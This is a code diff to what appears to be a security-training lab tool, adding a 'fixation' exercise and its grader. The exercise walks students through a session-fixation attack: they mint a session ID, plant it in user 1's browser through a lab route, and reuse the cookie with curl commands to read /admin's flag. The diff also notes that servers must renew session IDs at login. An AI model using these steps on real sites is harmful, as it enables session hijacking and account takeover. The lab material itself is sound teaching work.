@@ -12,7 +12,7 @@ from typing import Any, Callable
 
 from authcli.events import KeyChosen, SessionLookedUp, TokenChecked
 from authcli.server.journal import RequestRecord
-from authcli.server.lab.answer import ANSWER_PATH
+from authcli.server.lab.answer import ANSWER_PATH, VICTIM_PATH
 
 LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
          "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
@@ -39,6 +39,7 @@ class Exercise:
     leaked: str = ""                           # what the student is handed, {value} in its words
     guessing: bool = False                     # user 1's password is in authcli's list: the story is the guesses
     path: str = "/admin"                       # the route whose requests are judged (/answer: user-enum's)
+    route: str = ""                            # the exercise's own POST route (answer.py), if any
 
 
 def checked(record: RequestRecord) -> TokenChecked | None:
@@ -92,6 +93,12 @@ def _session_of_user_1(record: RequestRecord, run: Any = None) -> bool:
     is random each run and only the exercise's own user 1 logs in, never asking for /admin."""
     return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
                for e in record.events)
+
+
+def _fixed(record: RequestRecord, run: Any) -> bool:
+    """User 1's session, under an ID the student planted in user 1's browser before they logged in."""
+    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
+               and e.session_id in run.planted for e in record.events)
 
 
 def _guessed(record: RequestRecord, run: Any) -> bool:
@@ -226,7 +233,21 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "(LIST: the 20 emails, pasted as shown)",
         "Send them: curl -s -X POST {url}/answer -H 'Content-Type: application/json' -d "
         "'{{\"emails\": [\"x@b.com\", \"y@b.com\"]}}'"),
-        _answered, leaked="The 20 emails: {value}", path=ANSWER_PATH),
+        _answered, leaked="The 20 emails: {value}", path=ANSWER_PATH, route=ANSWER_PATH),
+    Exercise("fixation", "Get this run's flag from GET /admin, which answers only user 1. You can set a "
+             "cookie in user 1's browser: POST JSON {\"sessionId\": \"...\"} to /victim, and user 1 logs "
+             "in carrying it.", ("curl",), (
+        "Make up a session ID of the shape this server gives out (43 letters, digits, - and _): "
+        "ID=$(python3 -c 'import secrets; print(secrets.token_urlsafe(32))'). Log in as yourself "
+        "carrying it, and look at Set-Cookie in the answer: "
+        + LOGIN.replace("-s", "-si").replace("-X POST", "-H \"Cookie: sessionId=$ID\" -X POST"),
+        "A server that keeps the session ID a client brought to login lets whoever chose that ID use the "
+        "session; the ID must be renewed at login [^owasp-session-renew]. A cookie can be set for a site "
+        "from a sibling subdomain [^rfc6265-8.6], which is one way an attacker plants one.",
+        "Plant it in user 1's browser (or a new one of the same shape): curl -s -X POST {url}/victim -H 'Content-Type: application/json' "
+        "-d \"{{\\\"sessionId\\\": \\\"$ID\\\"}}\", and wait until this terminal says user 1 logged in.",
+        "Use the same ID: curl -s -H \"Cookie: sessionId=$ID\" {url}/admin"),
+        _fixed, route=VICTIM_PATH),
 ]}
 
 
